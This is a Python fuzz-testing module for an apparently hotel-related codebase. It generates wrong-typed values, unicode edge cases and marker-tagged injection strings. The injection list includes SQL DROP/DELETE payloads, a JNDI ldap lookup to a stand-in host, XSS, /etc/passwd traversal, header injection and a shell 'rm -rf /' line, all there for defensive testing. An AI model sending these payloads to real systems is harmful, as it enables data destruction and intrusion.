"""Hostile input for fuzz tests: wrong types, unicode edge cases and injection strings.

A use case or an adapter that reads input from a form, a JSON body or a channel's feed
must refuse what it cannot use with a :class:`~staycore.kernel.errors.StaycoreError`
(never a ``TypeError`` from deep inside), must store what it accepts exactly, and must
never build SQL (or a template, a path, a shell line) out of it. These strategies draw
the inputs that find the places where that is not so:

* :func:`wrong_types`: ``None``, booleans, floats (``nan``, infinities), huge and
  negative integers, ``Decimal`` specials, bytes, containers (nested ones too), an
  object of no known type, a class, naive datetimes, the last date, durations that are
  negative or too long to add to anything;
* :func:`unicode_edge_cases`: empty and whitespace-only text, NUL, lone surrogates,
  right-to-left marks, combining characters, emoji, 10,000 characters, full-width and
  other non-ASCII digits, number-like text;
* :func:`injections`: SQL, format-string, template, JNDI, HTML and path injections,
  each carrying :data:`MARKER`, so that a test can look for it where it must never be
  (the text of a SQL statement, a rendered page);
* :func:`hostile_text` and :func:`hostile_values`: all of them together.

Every value is built afresh for each draw, so a use case that mutates a list it was
given cannot spoil the next example. :func:`representatives` gives one value of each
kind, for ``@example`` decorators that must run every time.

Example:
    >>> from hypothesis import given, settings
    >>> from staycore.kernel.errors import StaycoreError
    >>> from staycore.kernel.money import Money
    >>> from staycore.testing.hostile import hostile_values
    >>> @settings(max_examples=25, database=None)
    ... @given(amount=hostile_values())
    ... def test_money_refuses_what_it_cannot_use(amount):
    ...     try:
    ...         Money.of(amount, "EUR")
    ...     except StaycoreError:
    ...         pass  # refused, with a code and advice: fine
    >>> test_money_refuses_what_it_cannot_use()
"""

from __future__ import annotations

import datetime as dt
from collections.abc import Callable
from decimal import Decimal
from typing import Final

from hypothesis import strategies as st
from hypothesis.strategies import SearchStrategy

__all__ = [
    "INJECTIONS",
    "MARKER",
    "UNICODE_EDGE_CASES",
    "hostile_text",
    "hostile_values",
    "injections",
    "representatives",
    "unicode_edge_cases",
    "wrong_types",
]

MARKER: Final = "zzinjectzz"
"""The text every injection string carries; look for it (in any case) where it must not be."""

INJECTIONS: Final[tuple[str, ...]] = (
    f"{MARKER}'; DROP TABLE staycore_aggregates; --",
    f'{MARKER}" OR 1=1 --',
    f"' OR '1'='1' -- {MARKER}",
    f"{MARKER}'); DELETE FROM staycore_outbox; --",  # noqa: S608 - an injection, on purpose
    f"{MARKER}*/ DROP TABLE staycore_idempotency_keys; /*",
    f"{MARKER}$$; DROP SCHEMA public CASCADE; $$",
    f"{MARKER}\\'; SELECT pg_sleep(30); --",
    f"{MARKER}%' OR 1=1 --",
    f"{MARKER} %s %d %(name)s %%",
    f"{MARKER} {{}} {{0}} {{name}} {{0.__class__}}",
    f"${{jndi:ldap://{MARKER}.example/a}}",
    f"{{{{7*7}}}} {MARKER} <%= 7*7 %>",
    f"<script>alert('{MARKER}')</script>",
    f"../../etc/passwd#{MARKER}",
    f"{MARKER}\r\nX-Injected: 1",
    f"{MARKER}`; rm -rf / #",
    f"{MARKER}\x00'; --",
    f"{MARKER} or 1 1",  # letters, digits and spaces: it survives coupon-code normalization
)
"""Injection strings, each carrying :data:`MARKER`.

Example:
    >>> from staycore.testing.hostile import INJECTIONS, MARKER
    >>> all(MARKER in text for text in INJECTIONS)
    True
"""

UNICODE_EDGE_CASES: Final[tuple[str, ...]] = (
    "",
    " ",
    " \t\r\n ",
    "\u00a0\u2003\u3000",  # no-break, em and ideographic spaces: whitespace to str.strip
    "\u200b",  # a zero-width space, which str.strip keeps
    "\x00",
    "Mei\x00Tan",
    "\ud800",  # a lone high surrogate: no UTF-8 encoding exists
    "Mei\udfffTan",  # a lone low surrogate
    "\u202egnp.exe",  # right-to-left override
    "\u200f\u0645\u0631\u062d\u0628\u0627\u200e",  # RLM, "hello" in Arabic, LRM
    "e\u0301",  # e and a combining acute accent
    "Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357" * 20,  # stacked combining marks
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",  # one family emoji
    "\U0001f3e8",
    "\ufeffMei",  # a byte-order mark
    "Mei\u2028Tan",  # a line separator
    "x" * 10_000,
    "\uff11\uff12\uff13",  # full-width digits
    "\u0663\u0664",  # Arabic-Indic digits
    "\u0130stanbul \u00df",  # case mappings that change the length
    "\x1b[31mred\x1b[0m",
    "NaN",
    "-Infinity",
    "1e999999",
    "9" * 400,
    "-0",
)
"""Text that trips up validation, storage and display.

Example:
    >>> from staycore.testing.hostile import UNICODE_EDGE_CASES
    >>> "\\ud800" in UNICODE_EDGE_CASES, max(map(len, UNICODE_EDGE_CASES))
    (True, 10000)
"""


class _Opaque:
    """An object of no type staycore knows, printed recognisably."""

    def __repr__(self) -> str:
        return "<opaque object>"


def _nested(depth: int) -> list[object]:
    value: list[object] = []
    for _ in range(depth):
        value = [value]
    return value


_WRONG_TYPES: Final[tuple[Callable[[], object], ...]] = (
    lambda: None,
    lambda: True,
    lambda: False,
    lambda: 0,
    lambda: -1,
    lambda: 10**400,
    lambda: -(10**400),
    lambda: 2**63,
    lambda: -(2**63) - 1,
    lambda: 1.5,
    lambda: -0.0,
    lambda: float("nan"),
    lambda: float("inf"),
    lambda: float("-inf"),
    lambda: 1e308,
    lambda: Decimal("NaN"),
    lambda: Decimal("sNaN"),
    lambda: Decimal("-Infinity"),
    lambda: Decimal("1E+999999"),
    lambda: complex(1, 1),
    f"{MARKER} bytes\x00".encode,
    lambda: bytearray(b"\xff\xfe"),
    list,
    lambda: [1, "two", None],
    dict,
    lambda: {MARKER: [1, 2]},
    set,
    lambda: (),
    _Opaque,
    lambda: object,
    lambda: _nested(20),
    lambda: dt.datetime(2026, 7, 10, 12, 0),  # noqa: DTZ001 - naive on purpose
    lambda: dt.date.max,
    lambda: dt.timedelta(days=-1),
    lambda: dt.timedelta.max,
)

_REPRESENTATIVES: Final[tuple[Callable[[], object], ...]] = (
    lambda: None,
    lambda: 10**400,
    lambda: float("nan"),
    f"{MARKER} bytes".encode,
    list,
    dict,
    _Opaque,
    lambda: "",
    lambda: "\x00",
    lambda: "\ud800",
    lambda: "x" * 10_000,
    lambda: INJECTIONS[0],
)


def wrong_types() -> SearchStrategy[object]:
    """Values of types no staycore input has, and edge values of the types some have.

    Each draw is a fresh value (containers are never shared between draws).

    Example:
        >>> from hypothesis import find
        >>> from staycore.testing.hostile import wrong_types
        >>> find(wrong_types(), lambda value: isinstance(value, float) and value != value)
        nan
    """
    return st.sampled_from(_WRONG_TYPES).map(lambda make: make())


def unicode_edge_cases() -> SearchStrategy[str]:
    """Text that is empty, blank, unencodable, bidirectional, combining, huge or digit-like.

    Draws the cases of :data:`UNICODE_EDGE_CASES`, and short texts made of control,
    format, surrogate, private-use, combining, separator, digit and symbol characters.

    Example:
        >>> from hypothesis import find
        >>> from staycore.testing.hostile import unicode_edge_cases
        >>> find(unicode_edge_cases(), lambda text: len(text) > 5_000) == "x" * 10_000
        True
    """
    odd = st.text(
        alphabet=st.characters(
            categories=("Cc", "Cf", "Cs", "Co", "Mn", "Zs", "Zl", "Zp", "Nd", "So")
        ),
        min_size=1,
        max_size=12,
    )
    return st.one_of(st.sampled_from(UNICODE_EDGE_CASES), odd)


def injections() -> SearchStrategy[str]:
    """Injection strings, each carrying :data:`MARKER`, alone or inside ordinary text.

    Example:
        >>> from hypothesis import find
        >>> from staycore.testing.hostile import MARKER, injections
        >>> find(injections(), lambda text: "DROP TABLE" in text).startswith(MARKER)
        True
    """
    plain = st.sampled_from(INJECTIONS)
    wrapped = st.builds(
        lambda before, text, after: f"{before}{text}{after}",
        st.sampled_from(("Mei Tan ", "Room 101: ", "")),
        plain,
        st.sampled_from(("", " thanks", "\n")),
    )
    return st.one_of(plain, wrapped)


def hostile_text() -> SearchStrategy[str]:
    """Text a form or a JSON body can carry: unicode edge cases and injection strings.

    Example:
        >>> from hypothesis import find
        >>> from staycore.testing.hostile import MARKER, hostile_text
        >>> MARKER in find(hostile_text(), lambda text: "<script>" in text)
        True
    """
    return st.one_of(unicode_edge_cases(), injections())


def hostile_values() -> SearchStrategy[object]:
    """Anything an untyped caller can pass: wrong types, edge-case text and injections.

    Example:
        >>> from hypothesis import find
        >>> from staycore.testing.hostile import hostile_values
        >>> find(hostile_values(), lambda value: isinstance(value, bytes))[:10]
        b'zzinjectzz'
    """
    return st.one_of(wrong_types(), hostile_text())


def representatives() -> tuple[object, ...]:
    """One fresh value of each kind of hostile input, for tests that must try them all.

    ``None``, a huge integer, ``nan``, bytes, an empty list and dict, an opaque
    object, empty text, NUL, a lone surrogate, 10,000 characters and an injection.

    Example:
        >>> from staycore.testing.hostile import representatives
        >>> len(representatives()), representatives()[:3]
        (12, (None, 1000...000, nan))
    """
    return tuple(make() for make in _REPRESENTATIVES)
